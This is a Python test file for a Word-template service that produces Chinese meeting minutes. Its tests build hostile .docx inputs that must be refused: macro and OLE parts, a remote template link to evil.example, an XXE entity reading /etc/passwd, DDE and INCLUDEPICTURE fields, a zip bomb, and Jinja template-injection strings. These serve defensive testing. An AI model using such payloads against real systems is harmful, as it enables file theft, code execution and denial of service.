"""Word documents: the usual templates, the company's own from a day on, and what no template may hold."""

import io
import zipfile
from datetime import date
from typing import Any

import docx
import pytest
from docx.oxml.ns import qn

from luoshi.base.actor import HOUSE
from luoshi.base.documents.fields import check_fields
from luoshi.base.documents.kinds import documents
from luoshi.base.documents.models import WordTemplate
from luoshi.base.documents.rendering import render
from luoshi.base.documents.services import document, set_template, try_out
from luoshi.base.documents.words import day_words
from luoshi.base.refusal import Refusal
from tests.cast import at, key

NOW = at("2026-11-02 09:00")
MINUTES = documents["minutes"]
ALL = (
    "{{ title }}{{ when }}{{ chair }}{{ present|join('、') }}{{ recorder }}{% for i in items %}{{ i.title }}{{ i.decision }}"
    "{% for m in i.measures %}{{ m.text }}{% endfor %}{{ i.dissent|length }}{% endfor %}"
)


def word(*lines: str) -> bytes:
    """A template with these paragraphs."""
    paper = docx.Document()
    for line in lines:
        paper.add_paragraph(line)
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def packed(content: bytes, **parts: bytes) -> bytes:
    """The same with other parts put in or put in place of its own; `__` in a name stands for /, `_dot_` for a dot."""
    changed = {name.replace("__", "/").replace("_dot_", "."): body for name, body in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            if member.filename not in changed:
                new.writestr(member.filename, old.read(member))
        for name, body in changed.items():
            new.writestr(name, body)
    return out.getvalue()


@pytest.mark.parametrize("name", ["minutes", "notice"])
def test_the_usual_templates_can_be_filled_and_name_their_chinese_faces(name: str) -> None:
    usual = documents[name].usual()
    try_out(documents[name], usual)
    paper = docx.Document(io.BytesIO(render(usual, documents[name].example)))
    assert (round(paper.sections[0].page_width.mm), round(paper.sections[0].page_height.mm)) == (210, 297)
    faces = {run._element.rPr.rFonts.get(qn("w:eastAsia")) for one in paper.paragraphs for run in one.runs if run._element.rPr is not None}
    assert {"仿宋_GB2312", "黑体", "方正小标宋简体"} <= faces
    assert paper.tables[0].rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert "{" not in "".join(one.text for one in paper.paragraphs)


@pytest.mark.django_db
def test_minutes_hold_every_item_with_its_measures_and_who_thought_otherwise() -> None:
    item = {
        "number": "水处理-2611-0004", "title": "蝶阀 <卡住> & 不动", "unit": "水处理车间", "dossier": "三次\n换过两次阀", "decision": "六台列入检修",
        "measures": [{"text": "换阀六台", "owner": "李国栋", "due": date(2026, 12, 20)}, {"text": "查备件", "owner": "方敏", "due": date(2026, 11, 30)}],
        "dissent": ["邱建平：先换两台"],
    }  # fmt: skip
    bare = {"number": "2", "title": "第二件", "unit": "燃气", "decision": "再看"}
    data = {
        "title": "会诊纪要",
        "number": "会诊-1",
        "when": NOW,
        "where": "会议室",
        "chair": "唐立新",
        "present": ["甲", "乙"],
        "items": [item, bare],
    }
    paper = docx.Document(io.BytesIO(document("minutes", data, date(2026, 11, 2))))
    lines = [one.text for one in paper.paragraphs]
    assert "时间：2026年11月2日09:00" in lines and "参加：甲、乙" in lines and "不同意见：邱建平：先换两台" in lines
    assert "1．蝶阀 <卡住> & 不动（水处理-2611-0004，水处理车间）" in lines and "2．第二件（2，燃气）" in lines
    assert "情况：三次\n换过两次阀" in lines and sum(line.startswith("情况") for line in lines) == 1
    assert [[cell.text for cell in row.cells] for row in paper.tables[0].rows] == [
        ["措施", "谁办", "哪天办完"], ["换阀六台", "李国栋", "2026年12月20日"], ["查备件", "方敏", "2026年11月30日"],
    ]  # fmt: skip
    assert len(paper.tables) == 1


@pytest.mark.django_db
def test_only_plain_values_of_known_fields_go_in() -> None:
    with pytest.raises(KeyError):
        document("minutes", {"titel": "会诊纪要"}, date(2026, 11, 2))
    with pytest.raises(TypeError):
        document("minutes", {"title": HOUSE}, date(2026, 11, 2))
    paper = docx.Document(io.BytesIO(document("minutes", {"title": "{{ 7*7 }}\x07{% for %}"}, date(2026, 11, 2))))
    assert paper.paragraphs[0].text == "{{ 7*7 }}{% for %}"


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ("{{ wer }}", "wer"),
        ("{{ items.title }}", "items.title"),
        ("{% for i in items %}{{ i.leiter }}{% endfor %}", "items.leiter"),
        ("{% for t in title %}{{ t }}{% endfor %}", "title"),
        ("{{ items }}", "items"),
        ("{{ title.__class__.__mro__ }}", "title.__class__"),
        ("{{ ''.join(present) }}", "call"),
        ("{{ 9**9**9 }}", "pow"),
        ("{% set x = 1 %}", "assign"),
        ("{% include 'x' %}", "include"),
        ("{{ present|map('upper') }}", "filter"),
        ("{% for i in items %}", "endfor"),
        ("{{ title", "“"),
    ],
)  # fmt: skip
def test_a_template_names_known_fields_and_repeats_lists_and_does_nothing_else(more: str, said: str) -> None:
    with pytest.raises(Refusal) as refused:
        check_fields([ALL + more], MINUTES.example, MINUTES.must)
    assert refused.value.field == "template"
    assert said in str(refused.value) or said == "“"


def test_a_field_left_out_is_named() -> None:
    check_fields([ALL], MINUTES.example, MINUTES.must)
    with pytest.raises(Refusal, match="recorder"):
        check_fields([ALL.replace("{{ recorder }}", "")], MINUTES.example, MINUTES.must)


RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
LINK = b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"%PDF-1.7",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        packed(word(ALL), word__vbaProject_dot_bin=b"x"),
        packed(word(ALL), word__embeddings__oleObject1_dot_bin=b"x"),
        packed(word(ALL), word___rels__settings_dot_xml_dot_rels=RELS % LINK),
        packed(word(ALL), word__big_dot_xml=b"<a>" + b" " * 50_000_000 + b"</a>"),
        packed(word(ALL), word__extra_dot_xml=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
        packed(word(ALL), word__extra_dot_xml='<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")),
        packed(word(ALL), word__footer9_dot_xml=b'<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:p>'),
        packed(word(ALL), word__footer9_dot_xml=b'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://x&quot; "/>'),
        b"x" * (5 * 1024 * 1024 + 1),
    ],
    ids=["empty", "pdf", "old word", "macro", "embedded", "link outside", "bomb", "entity", "other coding", "dde in pieces", "fetches", "too big"],
)  # fmt: skip
def test_hostile_files_are_refused_calmly(content: bytes) -> None:
    with pytest.raises(Refusal) as refused:
        try_out(MINUTES, content)
    assert refused.value.field == "template"


@pytest.mark.django_db
def test_the_own_template_counts_from_its_day_and_the_old_one_before() -> None:
    given: dict[str, Any] = {"actor": HOUSE, "at": NOW, "name": "minutes", "file_name": "..\\公司 纪要.docx", "source": "办公室通知"}
    command, content = key(), word("公司抬头", *ALL.split("|||"))
    made = set_template(command=command, since=date(2026, 11, 10), content=content, **given)
    assert set_template(command=command, since=date(2026, 11, 10), content=content, **given) == made
    assert WordTemplate.objects.get().file_name == "公司 纪要.docx"
    for since, more in (
        (date(2026, 11, 10), {}),
        (date(2026, 11, 1), {}),
        (date(2026, 11, 12), {"source": " "}),
        (date(2026, 11, 12), {"name": "x"}),
    ):
        with pytest.raises(Refusal):
            set_template(command=key(), since=since, content=content, **{**given, **more})
    data = {"title": "会诊纪要"}
    before, after = (docx.Document(io.BytesIO(document("minutes", data, date(2026, 11, day)))) for day in (9, 10))
    assert before.paragraphs[0].text == "会诊纪要" and after.paragraphs[0].text == "公司抬头"


def test_days_are_written_as_in_documents() -> None:
    assert day_words(date(2026, 11, 1)) == "2026年11月1日"
